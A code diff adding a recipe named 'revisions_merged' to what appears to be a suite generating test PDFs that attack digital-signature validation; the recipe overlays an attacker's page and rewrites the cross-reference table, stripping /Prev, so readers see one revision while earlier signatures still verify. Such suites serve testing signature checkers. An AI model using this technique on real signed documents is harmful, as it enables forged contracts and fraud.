@@ -430,6 +430,33 @@ def update_without_eof(docs: Documents, out: Path) -> None:
     (out / "document.pdf").write_bytes(data[: data.rindex(b"%%EOF")])
 
 
+def revisions_merged(docs: Documents, out: Path) -> None:
+    """An update whose cross-reference lists every object and names no earlier one (/Prev): one revision.
+
+    Readers see a document of a single revision, the attacker's page 1 in it; the signatures, made
+    on earlier revisions that no longer exist as such, still hash to what they covered.
+    """
+    from pypdf import PdfReader
+
+    writer = _incremental(docs.signed)
+    _overlay(writer)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    data = buffer.getvalue()
+    offsets = {}
+    for generation, table in PdfReader(io.BytesIO(data)).xref.items():
+        offsets.update({number: (offset, generation) for number, offset in table.items()})
+    size = int(re.findall(rb"/Size (\d+)", data)[-1])
+    start = data.rindex(b"xref\n", 0, data.rindex(b"startxref"))
+    lines = [b"xref", b"0 %d" % size, b"0000000000 65535 f "]
+    lines += [b"%010d %05d n " % offsets[n] if n in offsets else b"0000000000 00000 f " for n in range(1, size)]
+    trailer = re.search(rb"trailer\s*<<(.*?)>>\s*startxref", data[start:], re.S)
+    assert trailer is not None
+    entries = re.sub(rb"/Prev \d+", b"", trailer.group(1))
+    tail = b"\n".join(lines) + b"\ntrailer\n<<" + entries + b">>\nstartxref\n%d\n%%%%EOF\n" % start
+    (out / "document.pdf").write_bytes(data[:start] + tail)
+
+
 def objects_without_xref(docs: Documents, out: Path) -> None:
     """An object defined after the last `%%EOF`, with no cross-reference: readers that recover use it."""
     data = docs.signed.read_bytes()
@@ -761,6 +788,7 @@ RECIPES: dict[str, Callable[[Documents, Path], None]] = {
         signed_and_revocation_list,
         update_without_eof,
         objects_without_xref,
+        revisions_merged,
         first_signer_script,
         first_signer_font,
         first_signer_overlay,
